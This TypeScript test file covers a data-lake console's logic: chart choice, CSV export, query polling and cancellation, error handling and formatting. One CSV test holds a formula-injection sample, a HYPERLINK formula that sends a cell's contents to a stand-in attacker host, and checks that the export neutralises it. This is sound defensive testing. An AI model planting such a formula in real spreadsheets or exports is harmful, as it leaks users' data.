/** The console's pure logic (console/src/lib/): chart choice, CSV, history, error shapes, the ASL drawing's graph. */
import { failureOf } from '../../console/src/lib/api-error';
import type { AslDefinition, IngestStats, QueryStatus, VisitedState } from '../../console/src/lib/api-types';
import { aslGraph, stateOutcomes, takenEdges } from '../../console/src/lib/asl-graph';
import { layoutAsl } from '../../console/src/lib/asl-layout';
import { chartSeries, chooseChart, lineAxis, timeRange } from '../../console/src/lib/chart-choice';
import { readCsv, toCsv } from '../../console/src/lib/csv';
import { cellText } from '../../console/src/lib/format';
import { formatBytes, formatDuration, formatTime } from '../../console/src/lib/format';
import { describeInput } from '../../console/src/lib/execution-input';
import { HISTORY_LIMIT, readHistory, withEntry } from '../../console/src/lib/history';
import { ingestSeries, ingestTotals, UNKNOWN_TYPE } from '../../console/src/lib/ingest-series';
import { LakeApi, SignedOutError } from '../../console/src/lib/api';
import { QueryRun, RunLeftError } from '../../console/src/lib/query-run';
import { queryFailure } from '../../console/src/lib/query-failure';
import { parseRoute, routeHref } from '../../console/src/lib/route';
import etl from '../../state-machines/etl.asl.json';

describe('chart choice', () => {
  it('bars for a category and a count, a line over time, none without a number', () => {
    const cat = [
      { name: 'plan', type: 'varchar' },
      { name: 'n', type: 'bigint' },
    ];
    expect(chooseChart(cat)).toEqual({ dimension: 0, measure: 1, kind: 'bar' });
    expect(
      chooseChart([
        { name: 'n', type: 'double' },
        { name: 'plan', type: 'varchar' },
        { name: 'day', type: 'date' },
      ]),
    ).toEqual({ dimension: 2, measure: 0, kind: 'line' });
    expect(
      chooseChart([
        { name: 'a', type: 'varchar' },
        { name: 'b', type: 'varchar' },
      ]),
    ).toBeNull();
    expect(chooseChart([{ name: 'n', type: 'bigint' }])).toBeNull();
    // A numeric column with no number in the rows (all NULL) is no measure: the next one is, or there is no chart.
    const sparse = [
      { name: 'ts', type: 'timestamp' },
      { name: 'none', type: 'integer' },
      { name: 'v', type: 'double' },
    ];
    expect(chooseChart(sparse, [['2026-11-24 23:30:00.000', null, 1.5]])).toEqual({
      dimension: 0,
      measure: 2,
      kind: 'line',
    });
    expect(chooseChart(sparse.slice(0, 2), [['2026-11-24 23:30:00.000', null]])).toBeNull();
    expect(
      chooseChart([
        { name: 'x', type: 'bigint' },
        { name: 'y', type: 'decimal(10,2)' },
      ]),
    ).toEqual({
      dimension: 0,
      measure: 1,
      kind: 'line',
    });
  });

  it('a line over dates, timestamps or numbers places its points by value, sorted; other dimensions go by row', () => {
    const day = 86_400;
    expect(
      lineAxis(
        [
          ['2026-11-20', 5],
          ['2026-10-28', 3],
          ['2026-11-21', 6],
        ],
        { dimension: 0, measure: 1 },
        'date',
      ),
    ).toEqual({
      x: [Date.UTC(2026, 9, 28) / 1000, Date.UTC(2026, 10, 20) / 1000, Date.UTC(2026, 10, 20) / 1000 + day],
      values: [3, 5, 6],
      time: true,
    });
    expect(lineAxis([['2026-11-20 10:00:00.500', 1]], { dimension: 0, measure: 1 }, 'timestamp')!.x).toEqual([
      Date.UTC(2026, 10, 20, 10, 0, 0, 500) / 1000,
    ]);
    // Zoned: each placed at its instant, whatever its zone (an offset, UTC, a region with its summer time).
    const zoned = lineAxis(
      [
        ['2026-01-02 23:30:00.000 -05:00', 7],
        ['2026-01-01 00:30:00.000 +05:00', 5],
        ['2026-07-01 12:00:00.000 America/New_York', 2],
        ['2026-01-01 12:00:00.000 America/New_York', 3],
        ['2026-01-01 00:00:00.000 UTC', 1],
      ],
      { dimension: 0, measure: 1 },
      'timestamp(3) with time zone',
    );
    expect(zoned).toEqual({
      x: [
        Date.UTC(2025, 11, 31, 19, 30) / 1000,
        Date.UTC(2026, 0, 1) / 1000,
        Date.UTC(2026, 0, 1, 17) / 1000,
        Date.UTC(2026, 0, 3, 4, 30) / 1000,
        Date.UTC(2026, 6, 1, 16) / 1000,
      ],
      values: [5, 1, 3, 7, 2],
      time: true,
    });
    // A year below 100 with a region's zone (Etc/GMT+5 is UTC-5): that year, not 1900 and after.
    const year50 = new Date(0);
    year50.setUTCFullYear(50, 5, 1);
    year50.setUTCHours(17);
    expect(
      lineAxis(
        [['0050-06-01 12:00:00.000 Etc/GMT+5', 1]],
        { dimension: 0, measure: 1 },
        'timestamp with time zone',
      )!.x,
    ).toEqual([year50.getTime() / 1000]);
    // A zone the browser does not know: by row, as any value that does not read as a time.
    expect(
      lineAxis(
        [['2026-01-01 00:00:00.000 Nowhere/Else', 1]],
        { dimension: 0, measure: 1 },
        'timestamp with time zone',
      ),
    ).toBeUndefined();
    expect(
      lineAxis(
        [
          [10, 1],
          [2, 2],
        ],
        { dimension: 0, measure: 1 },
        'bigint',
      ),
    ).toEqual({ x: [2, 10], values: [2, 1], time: false });
    expect(lineAxis([['a', 1]], { dimension: 0, measure: 1 }, 'varchar')).toBeUndefined();
    // A region's time at its instant (Pacific daylight time, UTC-7, on that day).
    expect(
      lineAxis(
        [['2012-10-30 18:00:00.000 America/Los_Angeles', 1]],
        { dimension: 0, measure: 1 },
        'timestamp with time zone',
      )!.x,
    ).toEqual([Date.UTC(2012, 9, 31, 1) / 1000]);
  });

  it('points: labels from the dimension, numbers (exact big ones as strings) from the measure, gaps for NULL', () => {
    expect(
      chartSeries(
        [
          ['a', 1],
          [null, '12345678901234567890'],
          ['c', null],
        ],
        { dimension: 0, measure: 1 },
      ),
    ).toEqual({
      labels: ['a', 'NULL', 'c'],
      values: [1, 12345678901234567890, null],
    });
  });
});

it('CSV: RFC 4180 quoting, NULL as empty and an empty string as a quoted empty field, structures as JSON', () => {
  expect(
    toCsv(
      [
        { name: 'a', type: 'varchar' },
        { name: 'b,c', type: 'json' },
      ],
      [
        ['x "y"', { k: [1] }],
        [null, 'line\nbreak'],
        ['', null],
      ],
    ),
    // A json cell is its JSON text: a JSON string quoted and escaped, as Athena writes it, apart from a number.
  ).toBe('a,"b,c"\r\n"x ""y""","{""k"":[1]}"\r\n,"""line\\nbreak"""\r\n"",\r\n');
});

it('CSV: text that a spreadsheet would run as a formula gets a leading quote; numbers and dates do not', () => {
  const columns = [
    { name: 'title', type: 'varchar' },
    { name: 'n', type: 'bigint' },
    { name: 'amount', type: 'decimal(10,2)' },
    { name: 'big', type: 'decimal(38,2)' },
  ];
  const rows = [
    ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', -5, -12.5, '-12345678901234567890.25'],
    ['+1 555 0100', 1, 1, '1.00'],
    ['-', 2, 2, '2.00'],
    ['@SUM(A1)', 3, 3, '3.00'],
    ['\tx', 4, 4, '4.00'],
    ['plain = text', 5, 5, '5.00'],
  ];
  expect(toCsv(columns, rows).split('\r\n')).toEqual([
    'title,n,amount,big',
    '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")",-5,-12.50,-12345678901234567890.25',
    "'+1 555 0100,1,1.00,1.00",
    "'-,2,2.00,2.00",
    "'@SUM(A1),3,3.00,3.00",
    "'\tx,4,4.00,4.00",
    'plain = text,5,5.00,5.00',
    '',
  ]);
});

it('a decimal shows and downloads with its scale, as Athena writes it; other numbers as they are', () => {
  const columns = [
    { name: 'amount', type: 'decimal(10,2)' },
    { name: 'big', type: 'decimal(38,4)' },
    { name: 'n', type: 'bigint' },
  ];
  // A decimal the API could not give as a number (beyond a double) comes as its text: kept.
  const row = [12.5, '12345678901234567890.1200', 7];
  expect(row.map((c, i) => cellText(c, columns[i]!.type))).toEqual([
    '12.50',
    '12345678901234567890.1200',
    '7',
  ]);
  expect(cellText(0, 'decimal(5,0)')).toBe('0');
  // Rows whose fields have no names (ROW(…), map_entries) are typed by position, as field0, field1, …
  expect(cellText({ field0: '9007199254740993', field1: 1.1 }, 'row(bigint, decimal(5,2))')).toBe(
    '{"field0":9007199254740993,"field1":1.10}',
  );
  expect(cellText([{ field0: 'a', field1: 1.5 }], 'array(row(varchar, decimal(5,2)))')).toBe(
    '[{"field0":"a","field1":1.50}]',
  );
  expect(cellText([{ field0: 1 }], 'array(row(decimal(3,1)))')).toBe('[{"field0":1.0}]');
  expect(cellText({ field0: 1.5 }, 'row(field0 decimal(3,2))')).toBe('{"field0":1.50}');
  expect(
    cellText({ field0: '9007199254740993', field1: 2 }, 'row(timestamp(3) with time zone, decimal(4,1))'),
  ).toBe('{"field0":"9007199254740993","field1":2.0}');
  expect(toCsv(columns, [row])).toBe('amount,big,n\r\n12.50,12345678901234567890.1200,7\r\n');
});

it('history: newest first, each SQL once, bounded, unreadable storage is empty', () => {
  let list = withEntry([], { sql: 'SELECT 1', at: 't1', state: 'SUCCEEDED' });
  list = withEntry(list, { sql: 'SELECT 2', at: 't2', state: 'FAILED' });
  list = withEntry(list, { sql: ' SELECT 1 ', at: 't3', state: 'SUCCEEDED' });
  expect(list.map((e) => e.at)).toEqual(['t3', 't2']);
  for (let i = 0; i < 30; i += 1) list = withEntry(list, { sql: `SELECT ${i + 10}`, at: `${i}`, state: 'x' });
  expect(list).toHaveLength(HISTORY_LIMIT);
  expect(readHistory({ getItem: () => '{not json', setItem: () => undefined })).toEqual([]);
});

it('API failures: the flat and the nested error shapes, and a body that is not JSON', () => {
  const flat = failureOf(400, {
    code: 'QUERY_NOT_ALLOWED',
    message: 'only SELECT',
    field: 'sql',
    reason: 'DDL',
  });
  expect([flat.status, flat.code, flat.message, flat.field, flat.details]).toEqual([
    400,
    'QUERY_NOT_ALLOWED',
    'only SELECT',
    'sql',
    { reason: 'DDL' },
  ]);
  const nested = failureOf(404, {
    error: { code: 'EXECUTION_NOT_FOUND', message: 'no such', field: 'name' },
  });
  expect([nested.code, nested.field, nested.refusesKey]).toEqual(['EXECUTION_NOT_FOUND', 'name', false]);
  const gateway = failureOf(403, null, 'Forbidden');
  expect([gateway.code, gateway.message, gateway.refusesKey]).toEqual(['HTTP_403', 'Forbidden', true]);
});

describe('the state machine drawing', () => {
  const definition = etl as unknown as AslDefinition;
  const graph = aslGraph(definition);

  it('every state, and every Next, Choice, Default and Catch transition of the ETL state machine', () => {
    expect(graph.nodes.map((n) => n.name).sort()).toEqual(Object.keys(definition.States).sort());
    const catches = Object.values(definition.States).reduce((n, s) => n + (s.Catch?.length ?? 0), 0);
    expect(graph.edges.filter((e) => e.kind === 'catch').length).toBeLessThanOrEqual(catches);
    expect(graph.edges).toContainEqual({ from: 'CheckInput', to: 'FileJobArguments', kind: 'choice' });
    expect(graph.edges.some((e) => e.from === 'RunEtlJob' && e.kind === 'catch')).toBe(true);
  });

  it('a layout where no two states overlap and every edge has a route', () => {
    const layout = layoutAsl(graph);
    expect(layout.nodes).toHaveLength(graph.nodes.length);
    for (const a of layout.nodes)
      for (const b of layout.nodes) {
        if (a === b) continue;
        const apart =
          Math.abs(a.x - b.x) >= (a.width + b.width) / 2 || Math.abs(a.y - b.y) >= (a.height + b.height) / 2;
        expect(apart).toBe(true);
      }
    expect(layout.edges.every((e) => e.points.length >= 2)).toBe(true);
  });

  it('a state visited several times shows its worst outcome; transitions taken are those between visits', () => {
    const visit = (name: string, status: VisitedState['status']): VisitedState => ({
      name,
      type: 'Task',
      status,
      enteredAt: 't',
      exitedAt: 't',
    });
    const states = [
      visit('CheckInput', 'succeeded'),
      visit('FileJobArguments', 'succeeded'),
      visit('FileRunFailures', 'succeeded'),
      visit('RunEtlJob', 'caught'),
      visit('RunEtlJob', 'succeeded'),
      visit('ReadResult', 'succeeded'),
      visit('PublishFailure', 'failed'),
    ];
    const outcomes = stateOutcomes(states);
    expect(outcomes.get('RunEtlJob')).toMatchObject({ status: 'caught', visits: 2 });
    expect(outcomes.get('PublishFailure')?.status).toBe('failed');
    const taken = takenEdges(graph, states);
    expect(taken.has('CheckInput\u0000FileJobArguments')).toBe(true);
    expect(taken.has('ReadResult\u0000PublishFailure')).toBe(false); // no such transition
  });
});

it('ingest series: every bucket of the window, one type or all', () => {
  const stats: IngestStats = {
    from: '2026-12-03T10:00:00.000Z',
    to: '2026-12-03T11:00:00.000Z',
    bucketMinutes: 15,
    series: [
      { start: '2026-12-03T10:15:00.000Z', type: 'signup', accepted: 2, refused: 1 },
      { start: '2026-12-03T10:15:00.000Z', type: 'page_view', accepted: 5, refused: 0 },
      { start: '2026-12-03T10:45:00.000Z', type: 'signup', accepted: 1, refused: 0 },
    ],
    refusals: [],
    delivery: null,
  };
  expect(ingestSeries(stats, null)).toEqual({
    x: [0, 15, 30, 45].map((m) => Date.parse('2026-12-03T10:00:00Z') / 1000 + m * 60),
    accepted: [0, 7, 0, 1],
    refused: [0, 1, 0, 0],
  });
  expect(ingestSeries(stats, 'signup').accepted).toEqual([0, 2, 0, 1]);
  expect(ingestTotals(stats)).toEqual([
    { type: 'page_view', accepted: 5, refused: 0 },
    { type: 'signup', accepted: 3, refused: 1 },
  ]);
  // Refusals of a type the lake does not have (type null): a type of their own, which can be chosen.
  const unknown = {
    ...stats,
    series: [...stats.series, { start: stats.from, type: null, accepted: 0, refused: 4 }],
  };
  expect(ingestTotals(unknown)).toContainEqual({ type: UNKNOWN_TYPE, accepted: 0, refused: 4 });
  expect(ingestSeries(unknown, UNKNOWN_TYPE).refused).toEqual([4, 0, 0, 0]);
  expect(ingestSeries(unknown, null).refused).toEqual([4, 1, 0, 0]);
});

describe('a refused key', () => {
  it('is a 403; a 401 (no route for the method and path: the console always sends its key) is not', () => {
    expect(failureOf(403, { code: 'FORBIDDEN', message: 'invalid credentials' }).refusesKey).toBe(true);
    expect(failureOf(401, { code: 'UNAUTHORIZED', message: 'missing authentication token' }).refusesKey).toBe(
      false,
    );
  });
});

describe('a query run', () => {
  const running = { id: 'q-1', state: 'RUNNING' } as QueryStatus;
  const done = { id: 'q-1', state: 'SUCCEEDED' } as QueryStatus;
  const page = { columns: [], rows: [], nextToken: null };

  it('a query that succeeded with a page too large to carry is said so, not lost nor refused', async () => {
    const tooLarge = failureOf(409, {
      code: 'ROW_TOO_LARGE',
      message: 'a row is 7000123 bytes as JSON',
      id: 'q-1',
    });
    const api = {
      startQuery: async () => running,
      queryStatus: async () => done,
      results: async () => {
        throw tooLarge;
      },
    } as unknown as LakeApi;
    const r = new QueryRun(api);
    const e = await r.run('SELECT huge', 10).catch((x: unknown) => x);
    expect([r.queryId, r.lastState]).toEqual(['q-1', 'SUCCEEDED']);
    expect(queryFailure(e, r.queryId, r.lastState)).toEqual({
      title: 'Query q-1 ran, but its results could not be shown',
      state: 'SUCCEEDED',
      lost: null,
    });
    // Answered at once (POST /queries with wait): the 409 names the query.
    expect(queryFailure(tooLarge, null, null)).toMatchObject({ state: 'SUCCEEDED', lost: null });
    // Refused about a query the page last saw running (the key changed, the lake forgot it): not RUNNING for good.
    const refusedWhileRunning = queryFailure(
      failureOf(403, { code: 'FORBIDDEN', message: 'no' }),
      'q-1',
      'RUNNING',
    );
    expect(refusedWhileRunning).toEqual({
      title: 'The lake refused to answer about query q-1 before it ended: its outcome is unknown',
      state: 'UNKNOWN',
      lost: null,
    });
    expect(queryFailure(failureOf(404, { code: 'NOT_FOUND', message: 'gone' }), 'q-1', 'QUEUED').state).toBe(
      'UNKNOWN',
    );
    expect(queryFailure(failureOf(404, { code: 'NOT_FOUND', message: 'gone' }), 'q-1', 'FAILED').state).toBe(
      'FAILED',
    );
    // Throttled (429) or timed out (408) past the page's patience: no answer about the query, which may still run.
    expect(
      queryFailure(failureOf(429, { code: 'TOO_MANY_REQUESTS', message: 'slow down' }), 'q-1', 'RUNNING'),
    ).toEqual({
      title: 'The lake stopped answering while query q-1 ran: it may still be running there',
      state: 'UNKNOWN',
      lost: 'q-1',
    });
    expect(queryFailure(failureOf(408, { code: 'TIMEOUT', message: 'late' }), 'q-1', 'RUNNING').lost).toBe(
      'q-1',
    );
    // Only a lake that stops answering about an accepted query may leave it running.
    expect(queryFailure(new TypeError('Failed to fetch'), 'q-1', 'RUNNING')).toEqual({
      title: 'The lake stopped answering while query q-1 ran: it may still be running there',
      state: 'UNKNOWN',
      lost: 'q-1',
    });
    expect(queryFailure(failureOf(400, { code: 'QUERY_NOT_ALLOWED', message: 'no' }), null, null).state).toBe(
      'REFUSED',
    );
    expect(queryFailure(new TypeError('Failed to fetch'), null, null).state).toBe('NOT_SENT');
  });

  it('rides out a lake that does not answer for a while (no answer, 5xx, 429), then ends as the lake says', async () => {
    const answers: (QueryStatus | Error)[] = [
      new TypeError('Failed to fetch'),
      failureOf(502, { message: 'Bad Gateway' }),
      failureOf(429, { code: 'TOO_MANY_REQUESTS', message: 'slow down' }),
      running,
      done,
    ];
    const seen: string[] = [];
    const api = {
      startQuery: async () => running,
      queryStatus: async () => {
        const a = answers.shift()!;
        if (a instanceof Error) throw a;
        return a;
      },
      results: async () => page,
    } as unknown as LakeApi;
    const silence: (number | null)[] = [];
    const outcome = await new QueryRun(
      api,
      (s) => seen.push(s.state),
      undefined,
      (ms) => silence.push(ms),
    ).run('SELECT 1', 10);
    expect(outcome.status.state).toBe('SUCCEEDED');
    expect(outcome.page).toEqual(page);
    expect(seen).toEqual(['RUNNING', 'RUNNING', 'SUCCEEDED']);
    expect(answers).toEqual([]);
    // The silence is told as it lasts (three reads without an answer), and its end.
    expect(silence.map((ms) => (ms === null ? null : typeof ms))).toEqual([
      'number',
      'number',
      'number',
      null,
    ]);
  }, 30_000);

  it('takes a status read that gets no answer in time for silence (a lake that accepts and never answers)', async () => {
    let reads = 0;
    const hanging = {
      startQuery: async () => running,
      // Never answers: only the read's own deadline ends it, as fetch does when its signal aborts.
      queryStatus: (_id: string, signal?: AbortSignal) => {
        reads++;
        return new Promise((_, reject) => signal?.addEventListener('abort', () => reject(signal.reason)));
      },
    } as unknown as LakeApi;
    const silence: (number | null)[] = [];
    const outcome = new QueryRun(hanging, undefined, 2_000, (ms) => silence.push(ms), 200).run(
      'SELECT 1',
      10,
    );
    await expect(outcome).rejects.toMatchObject({ name: 'TimeoutError' });
    expect(reads).toBeGreaterThan(1);
    expect(silence.length).toBeGreaterThan(0);
    expect(silence.every((ms) => typeof ms === 'number')).toBe(true);
  }, 30_000);

  it('tells a status read that hangs as silence while it lasts, not only when it fails', async () => {
    let reads = 0;
    const slow = {
      startQuery: async () => running,
      // The first read is answered after 1.2 s (a lake stopped for a while), the second at once.
      queryStatus: async () => {
        reads++;
        if (reads === 1) await new Promise((r) => setTimeout(r, 1_200));
        return done;
      },
      results: async () => page,
    } as unknown as LakeApi;
    const silence: (number | null)[] = [];
    const outcome = await new QueryRun(slow, undefined, 30_000, (ms) => silence.push(ms), 10_000, 200).run(
      'SELECT 1',
      10,
    );
    expect(outcome.status.state).toBe('SUCCEEDED');
    const told = silence.slice(0, -1) as number[];
    expect(told.length).toBeGreaterThan(1);
    expect(told.every((ms, i) => typeof ms === 'number' && (i === 0 || ms > told[i - 1]!))).toBe(true);
    expect(silence.at(-1)).toBeNull();
  }, 30_000);

  it('ends at once on a refusal, and after its patience when the lake stays silent', async () => {
    const refusing = {
      startQuery: async () => running,
      queryStatus: async () => {
        throw failureOf(404, { code: 'QUERY_NOT_FOUND', message: 'no such query' });
      },
    } as unknown as LakeApi;
    await expect(new QueryRun(refusing).run('SELECT 1', 10)).rejects.toMatchObject({ status: 404 });
    let calls = 0;
    const silent = {
      startQuery: async () => running,
      queryStatus: async () => {
        calls++;
        throw new TypeError('Failed to fetch');
      },
    } as unknown as LakeApi;
    await expect(new QueryRun(silent, undefined, 1_500).run('SELECT 1', 10)).rejects.toThrow(TypeError);
    expect(calls).toBeGreaterThan(1);
  }, 30_000);

  it('left (its page closed): stops polling and asks the lake to cancel the query', async () => {
    let polls = 0;
    const cancelled: string[] = [];
    const api = {
      startQuery: async () => running,
      queryStatus: async () => {
        polls++;
        return running;
      },
      cancelQuery: async (id: string) => {
        cancelled.push(id);
        return { ...running, state: 'CANCELLED' };
      },
    } as unknown as LakeApi;
    const run = new QueryRun(api);
    const outcome = run.run('SELECT 1', 10);
    await new Promise((r) => setTimeout(r, 700));
    run.leave();
    await expect(outcome).rejects.toBeInstanceOf(RunLeftError);
    const after = polls;
    await new Promise((r) => setTimeout(r, 1_000));
    expect(polls).toBe(after);
    expect(cancelled).toEqual(['q-1']);
  }, 30_000);

  it('leaving after the query ended cancels nothing, and its results are not read for a page that is gone', async () => {
    const calls: string[] = [];
    const api = {
      startQuery: async () => {
        calls.push('start');
        return running;
      },
      queryStatus: async () => {
        calls.push('status');
        return done;
      },
      results: async () => {
        calls.push('results');
        return page;
      },
      cancelQuery: async () => {
        calls.push('cancel');
        throw failureOf(409, { code: 'QUERY_ALREADY_FINISHED', message: 'it ended' });
      },
    } as unknown as LakeApi;
    // The page is left as it shows the SUCCEEDED status.
    const run = new QueryRun(api, (status) => {
      if (status.state === 'SUCCEEDED') run.leave();
    });
    await expect(run.run('SELECT 1', 10)).rejects.toBeInstanceOf(RunLeftError);
    run.leave();
    await new Promise((r) => setTimeout(r, 50));
    expect(calls).toEqual(['start', 'status']);
  });

  it('a closed API (signed out) sends nothing more, and a late refusal does not sign out anyone', async () => {
    const calls: string[] = [];
    const realFetch = globalThis.fetch;
    globalThis.fetch = (async (url: string) => {
      calls.push(url);
      return new Response(JSON.stringify({ code: 'FORBIDDEN', message: 'no' }), { status: 403 });
    }) as typeof fetch;
    try {
      let refusals = 0;
      const api = new LakeApi('old-key', () => refusals++, 'http://lake');
      const inFlight = api.queryStatus('q-1');
      api.close();
      await expect(inFlight).rejects.toMatchObject({ status: 403 });
      await expect(api.queryStatus('q-1')).rejects.toBeInstanceOf(SignedOutError);
      expect(calls).toEqual(['http://lake/queries/q-1']);
      expect(refusals).toBe(0);
    } finally {
      globalThis.fetch = realFetch;
    }
  });
});

it("a time chart spans the data, a lone time a day either side, whatever uPlot's own padding of it", () => {
  const day = Date.UTC(2026, 0, 1) / 1000;
  // uPlot widens a lone point by 86400 / 1e-3 seconds before it asks for the range.
  expect(timeRange([day], day, day + 86_400_000)).toEqual([day - 86400, day + 86400]);
  expect(timeRange([day, day], day, day)).toEqual([day - 86400, day + 86400]);
  expect(timeRange([day, day + 3600], day, day + 3600)).toEqual([day, day + 3600]);
});

it('sizes round before they pick their unit (1048575 B is 1.0 MB, not 1024 KB)', () => {
  expect(
    [0, 1023, 1024, 10_188, 10_239, 1_048_575, 1_073_741_823, 1_099_511_627_775, 5 * 1024 ** 4, -1, NaN].map(
      formatBytes,
    ),
  ).toEqual(['0 B', '1023 B', '1.0 KB', '9.9 KB', '10 KB', '1.0 MB', '1.0 GB', '1.0 TB', '5.0 TB', '–', '–']);
});

it('durations round before they split into minutes and hours', () => {
  expect(
    [999.4, 999.6, 9_996, 59_960, 61_000, 119_600, 3_599_700, 7_200_000, 7_384_000].map(formatDuration),
  ).toEqual([
    '999 ms',
    '1.00 s',
    '10.0 s',
    '1 min 0 s',
    '1 min 1 s',
    '2 min 0 s',
    '1 h 0 min 0 s',
    '2 h 0 min 0 s',
    '2 h 3 min 4 s',
  ]);
});

it("asks for no execution named '.' or '..', which a URL path cannot name", async () => {
  const calls: string[] = [];
  const realFetch = globalThis.fetch;
  globalThis.fetch = (async (url: string) => {
    calls.push(url);
    return new Response(JSON.stringify({ code: 'EXECUTION_NOT_FOUND', message: 'no' }), { status: 404 });
  }) as typeof fetch;
  try {
    const api = new LakeApi('key', () => undefined, 'http://lake');
    for (const name of ['.', '..'])
      await expect(api.execution(name)).rejects.toMatchObject({ status: 404, code: 'EXECUTION_NOT_FOUND' });
    await expect(api.retry('..')).rejects.toMatchObject({ status: 404 });
    await expect(api.execution('a.b')).rejects.toMatchObject({ status: 404 });
    expect(calls).toEqual(['http://lake/executions/a.b']);
  } finally {
    globalThis.fetch = realFetch;
  }
});

describe('a query started as the session ends', () => {
  it('is asked for its id at once, and cancelled when its page was left or the tab signed out meanwhile', async () => {
    const calls: { method: string; url: string; body?: unknown }[] = [];
    let answer!: () => void;
    const answered = new Promise<void>((r) => (answer = r));
    const realFetch = globalThis.fetch;
    globalThis.fetch = (async (url: string, init: RequestInit) => {
      calls.push({
        method: init.method!,
        url,
        ...(init.body ? { body: JSON.parse(String(init.body)) } : {}),
      });
      if (init.method === 'POST') await answered;
      const state = init.method === 'DELETE' ? 'CANCELLED' : 'RUNNING';
      return new Response(JSON.stringify({ id: 'q-9', state }), {
        status: init.method === 'POST' ? 202 : 200,
      });
    }) as typeof fetch;
    try {
      const api = new LakeApi('key', () => undefined, 'http://lake');
      const run = new QueryRun(api);
      const outcome = run.run('SELECT slow', 10);
      // Signed out while the POST is out: the page is left and the API closed before the id comes back.
      run.leave();
      api.close();
      answer();
      await expect(outcome).rejects.toBeInstanceOf(RunLeftError);
      await new Promise((r) => setTimeout(r, 50));
      expect(calls).toEqual([
        { method: 'POST', url: 'http://lake/queries', body: { sql: 'SELECT slow', wait: 0, maxRows: 10 } },
        { method: 'DELETE', url: 'http://lake/queries/q-9' },
      ]);
      // Nothing else goes out with the ended session's key, nor a cancel of a query it did not start.
      await expect(api.queryStatus('q-9')).rejects.toBeInstanceOf(SignedOutError);
      await expect(api.cancelQuery('q-other')).rejects.toBeInstanceOf(SignedOutError);
      expect(calls).toHaveLength(2);
    } finally {
      globalThis.fetch = realFetch;
    }
  });
});

it('routes and execution inputs in words', () => {
  expect(parseRoute('#/runs/orders-a%2Fb')).toEqual({ page: 'execution', name: 'orders-a/b' });
  expect(routeHref({ page: 'execution', name: 'orders-a/b' })).toBe('#/runs/orders-a%2Fb');
  expect(parseRoute('')).toEqual({ page: 'query' });
  expect(parseRoute('#/tables/signup')).toEqual({ page: 'tables', table: 'signup' });
  expect(describeInput({ bucket: 'b', key: 'uploads/orders/a.csv', table: 'orders' })).toBe(
    'uploads/orders/a.csv (table orders)',
  );
  expect(describeInput({ mode: 'replay', table: 'orders' })).toBe('replay of orders');
});

it('times: UTC, marked so (the charts, the tables and the lake’s paths and logs are in UTC)', () => {
  expect(formatTime('2026-12-04T22:50:25.253Z')).toBe('2026-12-04 22:50:25 UTC');
  expect(formatTime('2026-12-04T23:30:00-05:00')).toBe('2026-12-05 04:30:00 UTC');
  expect([formatTime(null), formatTime('soon')]).toEqual(['–', 'soon']);
});

describe('result cells as the API writes them', () => {
  const columns = [
    { name: 'jid', type: 'json' },
    { name: 'js', type: 'json' },
    { name: 'jn', type: 'json' },
    { name: 'jarr', type: 'json' },
    { name: 'arr', type: 'array(bigint)' },
    { name: 'm', type: 'map(varchar, bigint)' },
    { name: 'decs', type: 'array(decimal(4,2))' },
    { name: 'r', type: 'row(id bigint, "a b" varchar, amounts array(decimal(10,2)))' },
    { name: 'big', type: 'bigint' },
    // Field names with spaces, unquoted as Trino writes them; one name the start of another.
    { name: 'rs', type: 'row(unit price decimal(5,2), unit bigint, big id bigint)' },
    // A field name with a comma, unquoted too: its type is not the text after the comma.
    { name: 'rc', type: 'row(a,b decimal(5,2), b bigint)' },
  ];
  // The text of GET /queries/{id}/results: a json cell's numbers with every digit; a bigint beyond 2^53 inside an
  // array, a map or a row as a string; a decimal a double holds as a number (docs/sql-dialect.md, Values).
  const body =
    '{"id":"q","columns":' +
    JSON.stringify(columns) +
    ',"rows":[[12345678901234567890,"123",123,[9007199254740993,1],["9007199254740993",1],{"k":"9007199254740993"},' +
    '[12.5,1],{"id":"9007199254740993","a b":"x","amounts":[2.5]},"9007199254740993",' +
    '{"unit price":1.5,"unit":"9007199254740993","big id":"9007199254740993"},{"a,b":1.5,"b":"9007199254740993"}]],' +
    '"nextToken":null}';

  it('shows and downloads every digit, a JSON string apart from a number, and decimals with their scale', async () => {
    const realFetch = globalThis.fetch;
    globalThis.fetch = (async () => new Response(body, { status: 200 })) as typeof fetch;
    try {
      const page = await new LakeApi('key', () => undefined, 'http://lake').results('q', 100);
      const shown = page.rows[0]!.map((c, i) => cellText(c, columns[i]!.type));
      expect(shown).toEqual([
        '12345678901234567890',
        '"123"',
        '123',
        '[9007199254740993,1]',
        '[9007199254740993,1]',
        '{"k":9007199254740993}',
        '[12.50,1.00]',
        '{"id":9007199254740993,"a b":"x","amounts":[2.50]}',
        '9007199254740993',
        '{"unit price":1.50,"unit":9007199254740993,"big id":9007199254740993}',
        '{"a,b":1.50,"b":9007199254740993}',
      ]);
      expect(toCsv(columns, page.rows).split('\r\n')[1]).toBe(
        '12345678901234567890,"""123""",123,"[9007199254740993,1]","[9007199254740993,1]",' +
          '"{""k"":9007199254740993}","[12.50,1.00]","{""id"":9007199254740993,""a b"":""x"",""amounts"":[2.50]}",' +
          '9007199254740993,"{""unit price"":1.50,""unit"":9007199254740993,""big id"":9007199254740993}",' +
          '"{""a,b"":1.50,""b"":9007199254740993}"',
      );
    } finally {
      globalThis.fetch = realFetch;
    }
  });
});

it('a CSV download says when it holds the first rows only (a result over its limit)', async () => {
  const all = Array.from({ length: 7 }, (_, i) => [i]);
  const api = {
    // Pages of 3 at most, as the API pages them; the token is where the next page starts.
    results: async (_id: string, maxRows: number, token?: string | null) => {
      const at = Number(token ?? 0);
      const rows = all.slice(at, at + Math.min(maxRows, 3));
      return {
        columns: [],
        rows,
        nextToken: at + rows.length < all.length ? String(at + rows.length) : null,
      };
    },
  };
  const columns = [{ name: 'n', type: 'integer' }];
  const whole = await readCsv(api as never, 'q', columns, () => undefined, 10);
  expect([whole.rows, whole.cut, whole.csv.split('\r\n').length]).toEqual([7, false, 9]);
  const cut = await readCsv(api as never, 'q', columns, () => undefined, 5);
  expect([cut.rows, cut.cut, cut.csv]).toEqual([5, true, 'n\r\n0\r\n1\r\n2\r\n3\r\n4\r\n']);
  const exact = await readCsv(api as never, 'q', columns, () => undefined, 7);
  expect([exact.rows, exact.cut]).toEqual([7, false]);
});
